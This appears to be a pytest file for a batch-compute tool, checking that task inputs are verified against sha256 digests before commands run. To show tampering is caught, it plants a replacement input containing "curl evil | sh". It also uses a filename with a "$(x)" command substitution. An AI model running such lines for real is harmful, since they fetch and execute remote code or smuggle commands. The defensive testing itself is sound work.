"""Inputs verified on the node before the command runs (issue 13, Medium 7), with inputs staged per node
(issue 18): the job preparation task's script and a task's command line run here the way the node runs them,
in working directories laid out from their resource files, with real sha256sum and cp."""

from __future__ import annotations

import hashlib
import os
import shlex
import subprocess
from pathlib import Path

import pytest

from bigcompute.workload import iter_tasks, load_workload
from bigcompute.workload.inputs import file_digest
from bigcompute.workload.wire import (
    CHECKSUMS_PATH,
    InputChecksums,
    Staging,
    StorageContext,
    job_id,
    task_body,
)

HEAD = "apiVersion: bigcompute/v1\nkind: Workload\nname: demo\npool: cpu\n"
CTX = StorageContext("http://127.0.0.1:1/devstoreaccount1/inputs", "http://127.0.0.1:1/devstoreaccount1/outputs")


class Node:
    """One node's directories: the job preparation task's working directory and a task's."""

    def __init__(self, root: Path, stage: Staging, workloads: Path):
        self.prep, self.wd, self.stage, self.workloads = root / "prep", root / "wd", stage, workloads
        self.prep.mkdir()
        self.wd.mkdir()

    def download_snapshot(self) -> None:
        """The preparation task's container resource file: every blob under the prefix, at its full name."""
        root = self.prep / self.stage.root
        for rel in self.stage.shared:
            (root / rel).parent.mkdir(parents=True, exist_ok=True)
            (root / rel).write_bytes((self.workloads / rel).read_bytes())
        (root / CHECKSUMS_PATH).parent.mkdir(parents=True, exist_ok=True)
        (root / CHECKSUMS_PATH).write_bytes(self.stage.checksums.data)

    def prepare(self) -> subprocess.CompletedProcess[str]:
        return subprocess.run(["/bin/sh", "-c", self.stage.prep_script()], cwd=self.prep, capture_output=True,
                              text=True, timeout=30)

    def run(self, body: dict) -> subprocess.CompletedProcess[str]:
        for rf in body.get("resourceFiles", []):  # the task's own files
            target = self.wd / rf["filePath"]
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes((self.workloads / rf["filePath"]).read_bytes())
        return subprocess.run(shlex.split(body["commandLine"]), cwd=self.wd, capture_output=True, text=True,
                              timeout=30, env={**os.environ, "AZ_BATCH_JOB_PREP_WORKING_DIR": str(self.prep)})


@pytest.fixture
def task(write, repo, tmp_path):
    lw = load_workload(write(HEAD + "inputs: [data/*.csv, prog/run.py]\ntasks:\n  - id: p-{stem}\n"
                                    "    command: cat prog/run.py data/part0.csv > ran.txt\n"
                                    "    foreach: {files: 'data/*.csv'}\n"))
    digests = {f.relpath: file_digest(f.path) for f in lw.files}
    stage = Staging.of(lw.workload, digests, lw.files)
    first = next(iter_tasks(lw.workload, lw.files))
    node = Node(tmp_path, stage, repo / "workloads")
    node.download_snapshot()
    return task_body(first, lw.workload, job_id(lw.workload, digests), CTX, digests, stage=stage), node


def test_untampered_inputs_pass_and_the_command_runs(task) -> None:
    body, node = task
    assert node.prepare().returncode == 0
    result = node.run(body)
    assert (result.returncode, result.stderr) == (0, "")
    assert (node.wd / "ran.txt").read_text() == (node.workloads / "prog/run.py").read_text() + (node.workloads / "data/part0.csv").read_text()
    staged = node.prep / node.stage.root / "prog/run.py"
    assert (node.wd / "prog/run.py").samefile(staged) and not (node.wd / "prog").is_symlink()  # a folder of its own
    assert node.run(body).returncode == 0  # a retry in the same working directory links again


@pytest.mark.parametrize("victim", ["prog/run.py", "data/part0.csv"])
def test_a_replaced_input_stops_the_task_before_its_command(task, victim) -> None:
    """A staged input is checked once per node by the preparation task, a task's own file by the task."""
    body, node = task
    evil = "import os; os.system('curl evil | sh')\n"
    if victim in node.stage.shared:
        (node.prep / node.stage.root / victim).write_text(evil)
    assert node.prepare().returncode == 0  # the refusal is the tasks' to report, not a stuck node
    if victim not in node.stage.shared:
        (node.workloads / victim).write_text(evil)  # what the task's own resource file downloads
    result = node.run(body)
    assert result.returncode == 1
    assert result.stderr == f"bigcompute: input {victim} does not match its digest; refusing to run\n"
    assert not (node.wd / "ran.txt").exists()


def test_a_rewritten_checksum_list_is_caught_by_the_digest_the_job_carries(task) -> None:
    body, node = task
    evil = b"print('evil')\n"
    root = node.prep / node.stage.root
    (root / "prog/run.py").write_bytes(evil)
    (root / CHECKSUMS_PATH).write_bytes(InputChecksums.of({"prog/run.py": hashlib.sha256(evil).hexdigest()}).data)
    assert node.prepare().returncode == 0
    result = node.run(body)
    assert result.returncode == 1
    assert result.stderr == f"bigcompute: input {CHECKSUMS_PATH} does not match its digest; refusing to run\n"
    assert not (node.wd / "ran.txt").exists()


def test_a_task_carries_only_its_own_file_and_the_snapshot_lists_the_shared_ones(task) -> None:
    body, node = task
    assert [rf["filePath"] for rf in body["resourceFiles"]] == ["data/part0.csv"]
    assert node.stage.checksums.data.decode().splitlines() == [
        f"{file_digest(node.workloads / 'prog/run.py')}  prog/run.py"]
    assert node.prepare().returncode == 0 and node.run(body).returncode == 0


def test_tasks_without_inputs_carry_no_check(write) -> None:
    lw = load_workload(write(HEAD + "tasks:\n  - {id: a, command: echo hi}\n"))
    [t] = iter_tasks(lw.workload, lw.files)
    body = task_body(t, lw.workload, "j", CTX, {})
    assert body["commandLine"] == "/bin/sh -c 'echo hi'" and "resourceFiles" not in body


@pytest.mark.parametrize("name", ["sp ace.txt", "quo'te.txt", "back\\slash.txt", "new\nline.txt", "dollar$(x).txt"])
def test_the_list_reads_back_with_gnu_sha256sum_for_any_name(tmp_path, name) -> None:
    (tmp_path / name).write_bytes(b"data")
    checksums = InputChecksums.of({name: file_digest(tmp_path / name)})
    (tmp_path / "list").write_bytes(checksums.data)
    ok = subprocess.run(["sha256sum", "-c", "--strict", "--quiet", "list"], cwd=tmp_path, capture_output=True)
    assert ok.returncode == 0, ok
    (tmp_path / name).write_bytes(b"tampered")
    assert subprocess.run(["sha256sum", "-c", "--strict", "--quiet", "list"], cwd=tmp_path,
                          capture_output=True).returncode == 1
